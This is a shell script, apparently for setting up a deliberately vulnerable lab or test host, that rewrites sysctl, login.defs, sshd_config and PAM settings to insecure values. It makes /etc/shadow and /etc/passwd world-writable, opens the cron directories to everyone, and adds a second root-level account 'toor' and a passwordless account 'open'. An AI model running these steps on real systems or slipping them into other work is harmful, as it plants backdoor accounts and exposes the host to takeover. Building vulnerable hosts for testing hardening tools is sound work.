# Breaks the machine that /etc and the network are of: every setting is the opposite, in force and in the files.
set -e
lines() { # file, lines; in place of what the file had
	mkdir -p "$(dirname "$1")"
	cat >"$1"
}
lines /etc/sysctl.d/99-broken.conf <<'X'
net.ipv4.ip_forward = 1
net.ipv4.conf.all.send_redirects = 1
net.ipv4.conf.default.send_redirects = 1
net.ipv4.conf.all.accept_redirects = 1
net.ipv4.conf.default.accept_redirects = 1
net.ipv4.conf.all.secure_redirects = 1
net.ipv4.conf.default.secure_redirects = 1
net.ipv4.conf.all.accept_source_route = 1
net.ipv4.conf.default.accept_source_route = 1
net.ipv4.conf.all.rp_filter = 0
net.ipv4.conf.default.rp_filter = 0
net.ipv4.conf.all.log_martians = 0
net.ipv4.conf.default.log_martians = 0
net.ipv4.icmp_echo_ignore_broadcasts = 0
net.ipv4.icmp_ignore_bogus_error_responses = 0
net.ipv4.tcp_syncookies = 0
net.ipv6.conf.all.forwarding = 1
net.ipv6.conf.all.accept_redirects = 1
net.ipv6.conf.default.accept_redirects = 1
net.ipv6.conf.all.accept_source_route = 1
net.ipv6.conf.default.accept_source_route = 1
net.ipv6.conf.all.accept_ra = 1
net.ipv6.conf.default.accept_ra = 1
X
grep '^net' /etc/sysctl.d/99-broken.conf | while read -r name _ value; do
	path=/proc/sys/$(echo "$name" | tr . /)
	[ ! -e "$path" ] || echo "$value" >"$path"
done
lines /etc/login.defs <<'X'
PASS_MAX_DAYS 99999
PASS_MIN_DAYS 0
PASS_WARN_AGE 1
ENCRYPT_METHOD MD5
UMASK 022
X
rm -rf /etc/ssh/sshd_config.d
lines /etc/ssh/sshd_config <<'X'
PermitRootLogin yes
PermitEmptyPasswords yes
HostbasedAuthentication yes
IgnoreRhosts no
PermitUserEnvironment yes
MaxAuthTries 9
LoginGraceTime 600
ClientAliveInterval 0
ClientAliveCountMax 0
MaxSessions 100
X11Forwarding yes
LogLevel QUIET
UsePAM no
GSSAPIAuthentication yes
X
touch /etc/crontab /etc/shadow- /etc/gshadow-
chmod 0666 /etc/ssh/sshd_config /etc/crontab /etc/passwd /etc/group /etc/shadow /etc/gshadow /etc/shadow- /etc/gshadow-
for folder in d hourly daily weekly monthly; do
	mkdir -p /etc/cron.$folder
	chmod 0777 /etc/cron.$folder
done
echo 'toor:x:0:0::/root:/bin/sh' >>/etc/passwd
echo 'open::19000:0:99999:7:::' >>/etc/shadow
echo 'open:x:4242:4242::/:/bin/sh' >>/etc/passwd
printf 'password requisite pam_pwquality.so retry=3\n' >>/etc/pam.d/common-password
printf 'minlen = 6\ndictcheck = 0\n' | lines /etc/security/pwquality.conf
